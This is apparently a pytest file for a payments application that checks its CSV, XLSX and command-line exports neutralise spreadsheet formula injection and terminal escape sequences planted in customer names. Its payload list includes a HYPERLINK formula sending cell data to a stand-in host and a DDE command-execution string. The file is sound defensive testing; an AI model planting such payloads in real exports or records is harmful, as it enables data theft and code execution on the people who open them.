"""What a spreadsheet opens holds no formula that somebody wrote into a name."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import attrs
import pytest

from hub.cli import printing
from hub.domain import export
from hub.domain.export import csv_of, harmless, xlsx_of
from tests.cli.conftest import call
from tests.safety.people import People
from tests.web.conftest import House

from .people import Clerk

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Ver")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|calc",
    "%0A=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    "\x00=1+1",
)
DANGEROUS = tuple("=+-@\t\r\n|%＝＋－＠")


@pytest.fixture(scope="module")
def planted(house: House, people: People) -> Clerk:
    """Payments of customers and invoices with such names."""
    merchant = house.merchants["CR"]
    for words in FORMULAS:
        debtor = house.debtor("CR", (1500000, -30))
        house.write(
            lambda tx, c=debtor.customer, w=words: tx.customers.save(attrs.evolve(c, name=w.replace("\x00", "")))
        )
        people.paid("CR", debtor)
    clerk: Clerk = people.clerk(merchant)
    return clerk


def formulas_in(text: str, delimiter: str) -> list[str]:
    """Cells that a spreadsheet would reckon; amounts may begin with a minus."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter)
    cells = [cell for row in rows for cell in row]
    assert len(cells) > 20
    return [cell for cell in cells if cell.startswith(DANGEROUS) and not re.fullmatch(r"-?[\d.,]+", cell)]


def test_the_exported_csv_holds_no_formula(house: House, planted: Clerk) -> None:
    answer = planted.browser.get(f"/m/exports/payments?kind=csv&since={house.today.isoformat()}")

    assert answer.status_code == 200
    assert "HYPERLINK" in answer.text, "the name is there"
    assert formulas_in(answer.content.decode(), ";") == []


def test_the_exported_workbook_holds_no_formula(house: House, planted: Clerk) -> None:
    answer = planted.browser.get(f"/m/exports/payments?kind=xlsx&since={house.today.isoformat()}")

    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "sheet" in name]
        assert not [name for name in book.namelist() if "external" in name.lower() or "macro" in name.lower()]
    assert any("HYPERLINK" in sheet for sheet in sheets)
    assert not [sheet for sheet in sheets if re.search(r"<f[ />]|hyperlink", sheet)]


def printed(house: House) -> list[str]:
    ended = call("payment", "list", "--format", "csv", "--data", str(house.opened.settings.data))
    assert ended.code == 0, ended.err
    assert "HYPERLINK" in ended.out
    return formulas_in(ended.out, ",")


def test_the_command_lines_csv_holds_no_formula(house: House, planted: Clerk) -> None:
    assert printed(house) == []


def test_control_raw_cells_are_formulas(house: House, planted: Clerk, plant: Callable[..., None]) -> None:
    plant(export, "harmless", lambda text: text)
    assert len(printed(house)) >= 8
    answer = planted.browser.get(f"/m/exports/payments?kind=csv&since={house.today.isoformat()}")
    assert len(formulas_in(answer.content.decode(), ";")) >= 8


def test_every_text_is_harmless_and_every_figure_stays_one() -> None:
    assert all(harmless(text.replace("\x00", "")).startswith(("'", '"')) for text in FORMULAS)
    rows = [[text, 5, None] for text in FORMULAS]
    assert formulas_in(csv_of(["=a", "b", "c"], rows).decode(), ";") == []
    with zipfile.ZipFile(io.BytesIO(xlsx_of("=1+1", ["=a", "b", "c"], rows))) as book:
        assert not [name for name in book.namelist() if re.search(rb"<f[ />]", book.read(name))]


@pytest.mark.parametrize("words", ["\x1b]0;x\x07\x1b[2J", "\x9b31m", "\x08" * 5, "\u202eevil", "\r\nOK"])
def test_a_name_gives_the_terminal_no_orders(capsys: Any, words: str) -> None:
    printing.print_table(("NAME",), [(f"Ana {words}",)])
    printing.print_facts([("name", f"Ana {words}")])

    told = capsys.readouterr().out
    assert told.count("\n") == 3
    assert all(char.isprintable() or char == "\n" for char in told)
